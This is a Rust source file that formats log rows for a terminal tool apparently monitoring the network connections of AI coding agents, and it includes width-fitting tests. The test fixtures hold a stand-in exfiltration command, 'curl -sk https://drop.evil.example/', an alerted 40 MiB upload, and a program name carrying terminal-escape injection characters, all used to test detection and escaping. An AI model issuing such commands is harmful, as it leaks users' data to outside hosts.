//! The row of an event: when, who, where to, and what became of it, in as many columns as the terminal has. What does
//! not fit is left out in an order: sizes get short, then the ends that say least are cut. The agent's name stays.

use std::fmt::Write as _;

use anstyle::Style;
use unicode_width::{UnicodeWidthChar as _, UnicodeWidthStr as _};

use crate::connection::Connection;
use crate::event::{Address, Event, EventKind, Protocol, SocketState};
use crate::output::escape::{Escaped, cut, fit};
use crate::output::human::{Clock, ShortSize, Size, Span};
use crate::output::stats::Line;
use crate::output::style::Styles;
use crate::process::{Call, Process};

/// How a row is to look.
pub struct Look<'a> {
    /// Of the terminal as it is now.
    pub columns: usize,
    pub clock: &'a Clock,
    pub styles: &'a Styles,
}

/// Columns of time and sign.
const HEAD: usize = 11;
/// From here on there is a column for the class,
const WIDE: usize = 112;
/// and from here on one for the provider; what is left then is the command line's.
const WIDEST: usize = 150;
/// What an agent's name may take: a process that a user asked for is an agent too, and chose its name.
const AGENT_MAX: usize = 24;
const CLASS: usize = 9;
const PROVIDER: usize = 10;
/// What of a command line says something.
const COMMAND_MIN: usize = 12;
/// A blank before the end, and before and behind the mark of an alert.
const FIXED: usize = 4;
/// Of a duration and two sizes, next to each other.
const NUMBERS: usize = 6 + 1 + 11 + 1 + 11;

/// Appends the row, newline included. It is never wider than the terminal.
pub fn write(line: &mut String, event: &Event, look: &Look<'_>) {
    let row = Row { event, connection: &event.connection, look };
    line.push_str(&row.line().text);
    line.push('\n');
}

/// Who a connection is of: `claude(21914)›curl(22069)`, whole.
pub fn who(connection: &Connection) -> String {
    let (agent, program) = Who::of(connection.process.as_deref()).fit(usize::MAX);
    agent + &program
}

/// Where it goes, or comes from: `~example.com:443`, `[2001:db8::1]:53/udp`. A guess has its sign.
pub fn endpoint(connection: &Connection) -> String {
    Escaped(&endpoint_raw(connection)).to_string()
}

/// The same, not escaped yet.
pub fn endpoint_raw(connection: &Connection) -> String {
    let port = match &connection.remote {
        Some(Address::Ip(address)) => format!(":{}", address.port()),
        Some(Address::Host(_) | Address::Path(_)) | None => String::new(),
    };
    let end = match (&connection.name, &connection.remote) {
        (Some(known), _) => format!("{}{port}", known.shown()),
        (None, Some(address)) => address.to_string(),
        (None, None) => "*".to_owned(),
    };
    with_protocol(end, connection.protocol)
}

fn with_protocol(end: String, protocol: Protocol) -> String {
    match protocol {
        Protocol::Tcp | Protocol::Unix => end,
        other => format!("{end}/{}", other.name()),
    }
}

struct Row<'a> {
    event: &'a Event,
    connection: &'a Connection,
    look: &'a Look<'a>,
}

/// Text and what it is painted with; its parts stand next to each other.
type Pieces = Vec<(Style, String)>;

const PLAIN: Style = Style::new();

fn width(pieces: &[(Style, String)]) -> usize {
    pieces.iter().map(|(_, text)| text.width()).sum()
}

impl Row<'_> {
    fn line(&self) -> Line {
        let Look { columns, clock, styles } = self.look;
        let sign = match self.event.kind {
            EventKind::Connect => '+',
            EventKind::Close => '-',
            EventKind::Fail => '×',
            EventKind::Accept => '<',
            EventKind::Listen => '~',
        };
        let mut pieces: Pieces = vec![
            (styles.dim, clock.time(self.event.at.unix_ms)),
            (PLAIN, " ".to_owned()),
            (styles.event(self.event.kind), sign.to_string()),
            (PLAIN, " ".to_owned()),
        ];
        let mut room = columns.saturating_sub(HEAD);
        if *columns >= WIDEST {
            let provider = fit(&self.connection.provider, PROVIDER);
            pieces.push((styles.provider, padded(&provider, PROVIDER + 1)));
            room -= PROVIDER + 1;
        }
        self.body(&mut pieces, room);
        let pieces: Vec<(Style, &str)> = pieces.iter().map(|(style, text)| (*style, &**text)).collect();
        let mut line = Line::of(*columns, &pieces);
        line.text.truncate(line.text.trim_end().len());
        line
    }

    /// Who and where to, the mark of an alert, and what became of it.
    fn body(&self, pieces: &mut Pieces, room: usize) {
        let Look { columns, styles, .. } = self.look;
        let who = Who::of(self.connection.process.as_deref());
        let end = self.end();
        let column = who_column(*columns);
        let (who_wide, end_wide) = (who.width(), end.width());
        let budget = tail_columns(*columns);
        let fits = |tail: &Pieces| who_wide.max(column) + end_wide + FIXED + width(tail) <= room;
        let within = |tail: &Pieces| width(tail) <= budget;
        let tails = self.tails();
        let tail = tails.into_iter().find(|tail| fits(tail) || within(tail)).unwrap_or_default();
        let has_more = !tail.is_empty() || self.connection.alert;
        let rest = room.saturating_sub(if has_more { FIXED + width(&tail) } else { 1 });
        let end_room = if who_wide + end_wide <= rest {
            end_wide
        } else {
            end_wide.min((rest / 2).max(rest.saturating_sub(who_wide)))
        };
        let (agent, program) = who.fit(rest - end_room);
        let who_wide = agent.width() + program.width();
        let end_room = end_wide.min(rest.saturating_sub(who_wide));
        let end = shorten(&end, end_room);
        pieces.push((styles.provider, agent));
        pieces.push((PLAIN, program));
        // The columns stand below each other where what stands in them lets them.
        let gap = column.saturating_sub(who_wide).min(rest.saturating_sub(who_wide + end.width()));
        let taken = who_wide + gap + end.width();
        // A guess's sign stands before the column of names.
        let is_guess = end.starts_with('~');
        let indent = usize::from(!is_guess && taken < rest && *columns >= 60);
        pieces.push((PLAIN, " ".repeat(gap + 1 + indent)));
        let class = self.connection.class;
        pieces.push((styles.class(class), end));
        if !has_more {
            return;
        }
        let until = room.saturating_sub(budget + FIXED).max(taken + indent).min(rest);
        pieces.push((PLAIN, " ".repeat(until.saturating_sub(taken + indent) + 1)));
        let mark =
            if self.connection.alert { (styles.critical, "!".to_owned()) } else { (PLAIN, " ".to_owned()) };
        pieces.push(mark);
        pieces.push((PLAIN, " ".to_owned()));
        pieces.extend(tail);
    }

    fn end(&self) -> String {
        match (self.event.kind, &self.connection.local) {
            (EventKind::Listen, Some(local)) => {
                with_protocol(Escaped(&local.to_string()).to_string(), self.connection.protocol)
            }
            _ => endpoint(self.connection),
        }
    }

    /// What became of it, the fullest first.
    fn tails(&self) -> Vec<Pieces> {
        let columns = self.look.columns;
        if columns >= WIDE {
            return vec![
                self.wide_tail(command_columns(columns) >= COMMAND_MIN),
                self.wide_tail(false),
                Vec::new(),
            ];
        }
        let error = self.error();
        let note: Pieces = self.note().into_iter().map(|note| (self.look.styles.dim, note)).collect();
        let class = vec![self.class()];
        let mut tails = match self.event.kind {
            EventKind::Close => {
                let (long, short) = (self.numbers(Sizes::Long), self.numbers(Sizes::Short));
                let sent = self.sent();
                vec![
                    spaced([error.clone(), long, note.clone()]),
                    spaced([error.clone(), short.clone(), note]),
                    spaced([error.clone(), sent.clone(), Vec::new()]),
                    short,
                    sent,
                ]
            }
            EventKind::Fail => vec![spaced([error.clone(), class, note]), error],
            EventKind::Connect | EventKind::Accept | EventKind::Listen => {
                vec![spaced([class.clone(), note, Vec::new()]), class]
            }
        };
        tails.push(Vec::new());
        tails
    }

    /// In columns.
    fn wide_tail(&self, with_command: bool) -> Pieces {
        let (style, class) = self.class();
        let mut tail = vec![(style, padded(&class, CLASS + 1))];
        let mut what = spaced([self.error(), Vec::new(), Vec::new()]);
        if self.event.kind == EventKind::Close && what.is_empty() {
            let [duration, sent, received] = self.cells(Sizes::Long);
            what.push((PLAIN, format!("{duration:>6} {sent:>11} {received:>11}")));
        } else if self.event.kind == EventKind::Close {
            what = spaced([what, self.numbers(Sizes::Short), Vec::new()]);
        }
        if let Some(note) = self.note() {
            what = spaced([what, vec![(self.look.styles.dim, note)], Vec::new()]);
        }
        let wide = width(&what);
        tail.extend(what);
        if with_command && let Some(process) = &self.connection.process {
            let tool = process.call.as_ref().and_then(|call| call.tool.as_ref());
            let command = tool.map_or(&process.cmdline, |tool| &tool.cmdline);
            tail.push((PLAIN, " ".repeat(NUMBERS.saturating_sub(wide) + 2)));
            tail.push((self.look.styles.dim, fit(command, command_columns(self.look.columns))));
        }
        tail
    }

    fn class(&self) -> (Style, String) {
        let class = self.connection.class;
        (self.look.styles.class(class), class.name().to_owned())
    }

    fn error(&self) -> Pieces {
        let name = self
            .connection
            .error()
            .map(|errno| crate::errno::name(errno).map_or_else(|| format!("errno {errno}"), str::to_owned));
        name.map(|name| (self.look.styles.fail, name)).into_iter().collect()
    }

    /// What is out of the ordinary.
    fn note(&self) -> Option<String> {
        let connection = self.connection;
        if connection.is_late() {
            return Some("ended unseen".to_owned());
        }
        let is_connect = self.event.kind == EventKind::Connect;
        match connection.state {
            Some(state) if is_connect && state != SocketState::Established => Some(state.name().to_owned()),
            _ => (is_connect && connection.preexisting).then(|| "older".to_owned()),
        }
    }

    fn cells(&self, sizes: Sizes) -> [String; 3] {
        let connection = self.connection;
        let least = if connection.has_least_duration() { "≥" } else { "" };
        let duration =
            connection.duration().map_or_else(String::new, |duration| format!("{least}{}", Span(duration)));
        let size = |arrow: char, bytes: u64| match sizes {
            Sizes::Long => format!("{arrow}{}", Size(bytes)),
            Sizes::Short => format!("{arrow}{}", ShortSize(bytes)),
        };
        match connection.bytes {
            Some(bytes) => [duration, size('↑', bytes.sent), size('↓', bytes.received)],
            None => [duration, String::new(), String::new()],
        }
    }

    fn numbers(&self, sizes: Sizes) -> Pieces {
        let cells =
            self.cells(sizes).map(|cell| if cell.is_empty() { Vec::new() } else { vec![(PLAIN, cell)] });
        spaced(cells)
    }

    fn sent(&self) -> Pieces {
        let [_, sent, _] = self.cells(Sizes::Short);
        vec![(PLAIN, sent)]
    }
}

#[derive(Clone, Copy)]
enum Sizes {
    Long,
    Short,
}

/// A blank between those that hold something.
fn spaced<const N: usize>(parts: [Pieces; N]) -> Pieces {
    let mut all = Pieces::new();
    for part in parts.into_iter().filter(|part| !part.is_empty()) {
        if !all.is_empty() {
            all.push((PLAIN, " ".to_owned()));
        }
        all.extend(part);
    }
    all
}

fn padded(text: &str, columns: usize) -> String {
    format!("{text}{}", " ".repeat(columns.saturating_sub(text.width())))
}

/// Columns of who.
fn who_column(columns: usize) -> usize {
    match columns {
        0..60 => 0,
        60..96 => 24,
        96..WIDE => 30,
        WIDE..WIDEST => 34,
        _ => 40,
    }
}

/// Columns of what became of it, where who and where to do not leave more.
fn tail_columns(columns: usize) -> usize {
    match columns {
        0..60 => 6,
        60..96 => 20,
        96..WIDE => 26,
        WIDE..WIDEST => CLASS + 1 + NUMBERS,
        _ if command_columns(columns) < COMMAND_MIN => CLASS + 1 + NUMBERS,
        _ => CLASS + 1 + NUMBERS + 2 + command_columns(columns),
    }
}

fn command_columns(columns: usize) -> usize {
    // Who and where to have 85 of the rest.
    columns.saturating_sub(HEAD + PROVIDER + 1 + 40 + 41 + 4 + CLASS + 1 + NUMBERS + 2).min(120)
}

/// An agent and a program that runs for it, or one of the two. Escaped.
struct Who {
    agent: Option<(String, u32)>,
    program: Option<(String, u32)>,
}

impl Who {
    fn of(process: Option<&Process>) -> Self {
        let Some(process) = process else { return Self { agent: None, program: None } };
        let program = (Escaped(&process.program).to_string(), process.id.pid);
        match &process.call {
            Some(call) => {
                let agent = (fit(&call.agent, AGENT_MAX), call.agent_id.pid);
                let is_itself = call.agent_id == process.id;
                Self { agent: Some(agent), program: Some(program).filter(|_| !is_itself) }
            }
            None => Self { agent: None, program: Some(program) },
        }
    }

    fn width(&self) -> usize {
        let (agent, program) = self.fit(usize::MAX);
        agent.width() + program.width()
    }

    /// The agent and the rest in at most so many columns, but for the agent's name.
    fn fit(&self, columns: usize) -> (String, String) {
        match (&self.agent, &self.program) {
            (None, None) => (String::new(), cut("unknown", columns)),
            (None, Some((program, pid))) => (String::new(), program_in(program, *pid, columns)),
            (Some((agent, pid)), None) => {
                let whole = format!("{agent}({pid})");
                (if whole.width() <= columns { whole } else { agent.clone() }, String::new())
            }
            (Some((agent, agent_pid)), Some((program, pid))) => {
                for agent in [format!("{agent}({agent_pid})"), agent.clone()] {
                    let left = columns.saturating_sub(agent.width() + 1);
                    // As much of a name as says something.
                    if left >= program.width().min(5) {
                        let program = program_in(program, *pid, left);
                        return (agent, format!("›{program}"));
                    }
                }
                (agent.clone(), String::new())
            }
        }
    }
}

/// `curl(22069)`, `a-long-na…(22069)`, `curl`, `a-long-na…`.
fn program_in(program: &str, pid: u32, columns: usize) -> String {
    let pid = format!("({pid})");
    let room = columns.saturating_sub(pid.len());
    if room >= program.width().min(8) {
        return cut(program, room) + &pid;
    }
    cut(program, columns)
}

/// The end is kept: of a name the domain, of an address the port; of IPv6 the beginning too, which says whose it is.
pub(super) fn shorten(end: &str, columns: usize) -> String {
    if end.width() <= columns {
        return end.to_owned();
    }
    let kept_first = if end.starts_with('[') && columns >= 16 { columns / 2 - 2 } else { 0 };
    let first: String = end.chars().take(kept_first).collect();
    let room = columns.saturating_sub(first.width() + 1);
    let mut used = 0;
    let kept: Vec<char> = end
        .chars()
        .rev()
        .take_while(|character| {
            used += character.width().unwrap_or(0);
            used <= room
        })
        .collect();
    let mut text = first;
    if columns > 0 {
        text.push('…');
    }
    text.extend(kept.iter().rev());
    text
}

/// Appends ` | curl(22078) ← claude(21914) | curl -sk https://…`: who, for which agent, and so much of the command.
pub fn write_who(text: &mut String, process: &Process, command_columns: usize) {
    let mut put =
        |args: std::fmt::Arguments<'_>| text.write_fmt(args).expect("writing into a String cannot fail");
    put(format_args!(" | {}({})", Escaped(&process.program), process.id.pid));
    let is_other = |call: &Call| call.agent_id != process.id || *call.agent != *process.program;
    if let Some(call) = process.call.as_ref().filter(|call| is_other(call)) {
        put(format_args!(" ← {}({})", Escaped(&call.agent), call.agent_id.pid));
    }
    if !process.cmdline.is_empty() {
        put(format_args!(" | {}", fit(&process.cmdline, command_columns)));
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;
    use std::time::Duration;

    use super::*;
    use crate::connection::End;
    use crate::event::{Bytes, Class, ConnectionId, DomainSource, KnownName, Moment, Role, SourceKind};
    use crate::process::ProcessId;

    const WIDTHS: [usize; 10] = [7, 20, 40, 60, 80, 100, 120, 150, 161, 200];

    /// Of an agent and a program that it runs.
    fn connection((agent, agent_pid): (&str, u32), (program, pid): (&str, u32), remote: &str) -> Connection {
        let mut connection =
            Connection::new(ConnectionId(1), Role::Connect, Protocol::Tcp, Moment::default());
        let id = |pid| ProcessId { pid, start_time: 1 };
        let call = Call { agent: agent.into(), agent_id: id(agent_pid), session: None, tool: None };
        connection.process = Some(Arc::new(Process {
            program: program.to_owned(),
            cmdline: format!("{program} -sk https://drop.evil.example/"),
            call: Some(Arc::new(call)),
            ..Process::unknown(id(pid))
        }));
        connection.remote = Some(Address::ip(remote.parse().expect("an address")));
        connection.provider = "anthropic".into();
        connection.source = SourceKind::EbpfFentry;
        connection
    }

    fn row(kind: EventKind, connection: &Connection, columns: usize) -> String {
        let at = Moment { boot_ns: 0, unix_ms: 1_768_699_777_000 };
        let event = Event { kind, at, connection: Arc::new(connection.clone()) };
        let mut line = String::new();
        write(&mut line, &event, &Look { columns, clock: &Clock::Utc, styles: &Styles::PLAIN });
        line.strip_suffix('\n').expect("a whole line").to_owned()
    }

    fn named(mut connection: Connection, name: &str, by: DomainSource, class: Class) -> Connection {
        connection.name = Some(KnownName { name: name.into(), by });
        connection.class = class;
        connection
    }

    fn ended(mut connection: Connection, ms: u64, sent: u64, received: u64) -> Connection {
        connection.bytes = Some(Bytes { sent, received });
        let duration = Some(Duration::from_millis(ms));
        let at = Moment::default();
        connection.ended = Some(End { at, duration, error: None, is_late: false, has_failed: false });
        connection
    }

    #[test]
    fn a_row_says_who_where_to_and_what_became_of_it() {
        let api = named(
            connection(("claude", 29), ("claude", 29), "203.0.113.7:443"),
            "example.com",
            DomainSource::Ptr,
            Class::Unknown,
        );
        let mut drop = connection(("claude", 21914), ("curl", 22069), "198.51.100.66:443");
        drop.alert = true;
        let drop = ended(drop, 123, 40 << 20, 2765);
        let mut refused = connection(("codex", 7), ("git", 8), "192.0.2.1:22");
        refused.ended = Some(End {
            at: Moment::default(),
            duration: None,
            error: Some(111),
            is_late: false,
            has_failed: true,
        });
        let rows = [
            row(EventKind::Connect, &api, 80),
            row(EventKind::Close, &drop, 80),
            row(EventKind::Fail, &refused, 80),
        ];
        let expected = [
            "01:29:37 + claude(29)               ~example.com:443        unknown",
            "01:29:37 - claude(21914)›curl(22069) 198.51.100.66:443 ! 0.1s ↑40.0 MiB ↓2.7 KiB",
            "01:29:37 × codex(7)›git(8)           192.0.2.1:22           ECONNREFUSED unknown",
        ];
        assert_eq!(rows, expected, "{rows:#?}");
    }

    #[test]
    fn the_readme_shows_rows_as_they_are() {
        let api = named(
            connection(("claude", 2000), ("claude", 2000), "203.0.113.7:443"),
            "api.anthropic.com",
            DomainSource::Sni,
            Class::LlmApi,
        );
        let registry = named(
            connection(("claude", 2000), ("node", 2290), "203.0.113.40:443"),
            "registry.npmjs.org",
            DomainSource::Dns,
            Class::Registry,
        );
        let mut drop = connection(("claude", 2000), ("curl", 2311), "198.51.100.66:443");
        let mut refused = connection(("claude", 2000), ("git", 2320), "192.0.2.1:22");
        let at = Moment::default();
        refused.ended = Some(End { at, duration: None, error: Some(111), is_late: false, has_failed: true });
        let mut rows = vec![
            row(EventKind::Connect, &api, 80),
            row(EventKind::Close, &ended(registry, 1_234, 2_100, 345_000), 80),
            row(EventKind::Connect, &drop, 80),
            row(EventKind::Fail, &refused, 80),
        ];
        drop.alert = true;
        rows.push(row(EventKind::Close, &ended(drop, 9_100, 40 << 20, 2_765), 80));
        let readme = include_str!("../../../README.md");
        let block = rows.iter().fold(String::new(), |text, row| text + "    " + row + "\n");
        assert!(readme.contains(&block), "README.md lacks\n{block}");
    }

    #[test]
    fn no_row_is_wider_than_the_terminal_whatever_it_holds() {
        let long = "a-program-with-a-very-long-name-日本語-日本語";
        let six = "[2001:db8:85a3:8d3:1319:8a2e:370:7348]:50443";
        let plain = connection(("kiro-cli-chat", 4_194_303), (long, 4_194_304), six);
        let name = "a-very-long-label-in-front.日本語.and-the-domain.example";
        let mut with_name = named(plain.clone(), name, DomainSource::Ptr, Class::Telemetry);
        with_name.protocol = Protocol::Udp;
        let mut refused = plain.clone();
        let at = Moment::default();
        refused.ended = Some(End { at, duration: None, error: Some(111), is_late: false, has_failed: true });
        let mut marked = ended(with_name.clone(), 86_400_000_000, u64::MAX, u64::MAX);
        marked.alert = true;
        let mut hostile = plain.clone();
        let process = Process {
            program: "x\x1b[2J\n\u{202e}|".to_owned(),
            ..(**hostile.process.as_ref().expect("one")).clone()
        };
        hostile.process = Some(Arc::new(process));
        let cases = [
            (EventKind::Connect, &plain),
            (EventKind::Connect, &with_name),
            (EventKind::Close, &marked),
            (EventKind::Fail, &refused),
            (EventKind::Accept, &plain),
            (EventKind::Listen, &plain),
            (EventKind::Connect, &hostile),
        ];
        for columns in WIDTHS {
            for (kind, connection) in cases {
                let row = row(kind, connection, columns);
                assert!(row.width() <= columns, "{columns}: {row}");
                assert!(!row.chars().any(|c| c.is_control() || c == '\u{202e}'), "{row:?}");
                let has_agent = row.contains("kiro-cli-chat");
                assert!(columns < 40 || has_agent, "{columns}: {row}");
            }
            let row = row(EventKind::Connect, &plain, columns);
            assert!(columns < 60 || row.contains("]:50443"), "{columns}: {row}");
        }
    }

    #[test]
    fn columns_stand_below_each_other() {
        let short = connection(("claude", 1), ("claude", 1), "192.0.2.1:443");
        let long = connection(("claude", 21914), ("curl", 2206), "198.51.100.66:443");
        let starts = |columns: usize| {
            let place = |connection: &Connection, what: &str| {
                let row = row(EventKind::Connect, connection, columns);
                row[..row.find(what).expect("it is there")].width()
            };
            let ends = (place(&short, "192.0.2.1:443"), place(&long, "198.51.100.66:443"));
            (ends.0 == ends.1, place(&short, "unknown") == place(&long, "unknown"))
        };
        for columns in [80, 100, 120, 160, 200] {
            assert_eq!(starts(columns), (true, true), "{columns}");
        }
    }

    #[test]
    fn the_end_of_a_name_is_kept_and_both_of_an_ipv6_address() {
        for (end, columns, expected) in [
            ("api.example.com:443", 19, "api.example.com:443"),
            ("api.example.com:443", 16, "…example.com:443"),
            ("~a.日本.example:443", 13, "….example:443"),
            ("[2001:db8:85a3:8d3::7348]:443", 20, "[2001:db…::7348]:443"),
            ("[2001:db8::1]:443", 6, "…]:443"),
            ("x", 0, ""),
        ] {
            assert_eq!(shorten(end, columns), expected, "{end} in {columns}");
        }
    }

    #[test]
    fn who_gets_shorter_from_the_program_on() {
        let connection = connection(("claude", 21914), ("a-long-program", 22069), "192.0.2.1:443");
        let who = Who::of(connection.process.as_deref());
        for (columns, expected) in [
            (80, "claude(21914)›a-long-program(22069)"),
            (32, "claude(21914)›a-long-pro…(22069)"),
            (24, "claude(21914)›a-long-pr…"),
            (14, "claude›a-long…"),
            (8, "claude"),
            (2, "claude"),
        ] {
            let (agent, program) = who.fit(columns);
            assert_eq!(agent + &program, expected, "{columns}");
        }
    }
}
